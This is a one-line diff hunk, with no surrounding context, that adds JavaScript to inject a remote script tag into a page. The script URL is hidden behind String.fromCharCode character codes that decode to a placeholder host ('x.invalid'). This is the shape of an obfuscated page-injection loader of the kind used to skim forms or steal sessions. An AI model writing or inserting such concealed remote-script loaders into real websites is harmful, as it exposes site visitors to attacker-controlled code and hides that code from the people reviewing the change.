@@ -1,0 +1,1 @@
+var e=document.createElement('script');e.src=String.fromCharCode(104,116,116,112,115,58,47,47,120,46,105,110,118,97,108,105,100);document.body.appendChild(e);
